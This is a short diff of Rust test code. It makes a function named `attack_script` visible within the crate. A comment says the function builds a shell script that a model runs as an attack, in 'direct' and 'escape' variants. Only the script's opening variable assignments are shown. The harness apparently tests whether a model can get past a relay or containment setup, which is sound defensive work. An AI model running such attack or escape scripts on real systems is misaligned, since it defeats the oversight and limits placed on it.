@@ -21,7 +21,7 @@ const TURN: Duration = Duration::from_secs(120);
 const API_KEY: &str = "sk-relay-test-key-never-shown";
 
 /// The attack, as one shell script the model runs. `$1` names the run (`direct`, `escape`).
-fn attack_script(url: &str, request: &str, data_dir: &str) -> String {
+pub(crate) fn attack_script(url: &str, request: &str, data_dir: &str) -> String {
     format!(
         r#"U={url}; R={request}; D={data_dir}
 cands() {{
